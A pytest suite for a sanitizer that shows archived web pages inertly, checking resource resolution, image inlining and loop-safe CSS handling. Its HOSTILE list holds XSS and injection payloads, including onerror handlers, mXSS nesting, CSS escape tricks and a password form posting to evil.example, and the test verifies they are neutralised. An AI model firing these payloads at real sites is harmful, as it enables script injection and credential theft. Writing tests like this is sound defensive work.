"""A saved page is shown as it looked, of what was saved: nothing in it acts, and it asks nobody."""

from __future__ import annotations

import re

import pytest

from annotations.formats import looks
from annotations.formats.looks import Part, Saved

AT = "https://news.example/2026/ferry"
PIXEL = Saved("image/png", b"\x89PNG pixel")


def addresses(page: str) -> list[tuple[str, bool]]:
    return [(each.address, each.is_style) for each in looks.needs(page.encode(), AT)]


def shown(page: str, saved: dict[str, Saved] | None = None) -> looks.Look:
    found = looks.look(page.encode(), AT, saved or {})
    assert found is not None
    return found


def test_what_a_page_needs_is_named_from_where_it_stands_styles_first():
    page = """<base href="/a/"><img src="b.png#x"><link rel="stylesheet" href="../c.css">
    <link rel="alternate stylesheet" href="no.css"><link rel=stylesheet media=print href=no2.css>
    <link rel=icon href=no.ico><img src="data:image/png;base64,AA"><img src="ftp://x/y.png">
    <img data-src="late.jpg"><img srcset="small.jpg 1x, large.jpg 2x"><img src="b.png">
    <style>p { background: url(d.gif) } @import "e.css"; @font-face { src: url(f.woff) }</style>
    <script src="no.js"></script><iframe src="no.html"></iframe>"""
    assert addresses(page) == [
        ("https://news.example/c.css", True),
        ("https://news.example/a/e.css", True),
        ("https://news.example/a/b.png", False),
        ("https://news.example/a/late.jpg", False),
        ("https://news.example/a/small.jpg", False),
        ("https://news.example/a/d.gif", False),
    ]


def test_a_style_names_what_it_calls_from_its_own_address():
    style = "/* url(no.png) */ @import url('x.css') screen; b{background:url( \"../y.png\" )}"
    assert looks.needs_of_style(style, "https://cdn.example/css/a.css") == [
        Part("https://cdn.example/css/x.css", is_style=True),
        Part("https://cdn.example/y.png", is_style=False),
    ]


def test_saved_pictures_and_styles_are_inside_and_all_else_is_told():
    page = """<link rel=stylesheet href=/a.css><body class="front">
    <p id=one style="color:red" onclick="x()">Words <img src=/p.png alt="A pixel"> and
    <img src=/gone.png alt="Not there"></p>"""
    saved = {
        "https://news.example/a.css": Saved(
            "text/css", b'@import "b.css"; .front { background: url(p.png) }'
        ),
        "https://news.example/b.css": Saved("text/css", b"p { color: navy }"),
        "https://news.example/p.png": PIXEL,
    }
    found = shown(page, saved)
    assert found.attributes == ' class="front"'
    assert '<p id="one">Words <img alt="A pixel" src="data:image/png;base64,' in found.html
    assert '<img alt="Not there">' in found.html
    assert "p { color: navy }" in found.style
    assert 'background: url("data:image/png;base64,' in found.style
    assert found.missing == {"https://news.example/gone.png"}
    assert found.shown == set(saved)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><image href=https://evil.example/x></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password><button>Go</button></form>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<style>p{background:url(https://evil.example/x)}</style>",
    "<style>p{background:u\\72l(https://evil.example/x)}</style><p>",
    "<style></sty</style><script>alert(1)</script>",
    "<style>a{content:'<\\/style><script>alert(1)<\\/script>'}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><img src=https://evil.example/x></template>",
    "<video src=https://evil.example/x poster=https://evil.example/y></video>",
    "<p title='\"><script>alert(1)</script>'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<textarea></textarea><title><script>alert(1)</script></title>",
]


@pytest.mark.parametrize("page", HOSTILE)
def test_nothing_of_a_hostile_page_is_left_but_its_words(page):
    found = shown(f"<body>{page}")
    named = set(re.findall(r"</?([a-z0-9]+)", found.html))
    assert named <= {"p", "a", "img", "table", "tbody", "tr", "td"}
    assert "alert(1)" not in re.sub(r'"[^"]*"', "", found.html)
    for tag in re.findall(r"<[^>]*>", found.html):
        assert re.fullmatch(r'</?[a-z1-6]+( [a-z]+="[^"]*")*( open)?>', tag), tag
        names = set(re.findall(r' ([a-z]+)="[^"]*"', tag))
        assert names <= {"title", "class", "id", "alt"}, tag
    assert "</" not in found.style


def test_a_picture_that_stands_a_thousand_times_does_not_grow_the_page_without_end():
    large = Saved("image/png", b"x" * 1024 * 1024)
    found = shown("<body>" + "<img src=/p.png>" * 1000, {"https://news.example/p.png": large})
    assert found.html.count("src=") == 16
    assert found.html.count("<img") == 1000


def test_styles_that_call_each_other_end():
    loop = {"https://news.example/a.css": Saved("text/css", b"@import '/a.css'; p{color:red}")}
    style = shown("<link rel=stylesheet href=/a.css><body>", loop).style
    assert 1 <= style.count("color:red") <= 9


def test_what_is_no_picture_is_not_shown_as_one():
    saved = {"https://news.example/p.png": Saved("text/html", b"<script>alert(1)</script>")}
    assert "src=" not in shown("<body><img src=/p.png>", saved).html


@pytest.mark.parametrize(
    "piece",
    ["/*", "@font-face{", "url(", "url('", '@import "a', "@import  ", 'url(" ', "@import url(x "],
)
def test_a_hostile_style_costs_no_more_than_its_length(piece):
    """One of a megabyte ends; with steps that grow by the square of its length it would not."""
    style = piece * (1024 * 1024 // len(piece))
    assert looks.needs_of_style(style, AT) is not None
